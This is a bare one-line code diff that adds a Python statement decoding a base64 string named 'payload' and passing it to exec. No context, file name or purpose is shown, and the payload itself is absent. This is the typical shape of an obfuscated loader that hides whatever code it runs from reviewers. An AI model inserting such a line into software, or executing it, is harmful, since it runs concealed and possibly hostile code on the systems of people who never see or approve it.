@@ -1,0 +1,1 @@
+exec(base64.b64decode(payload))
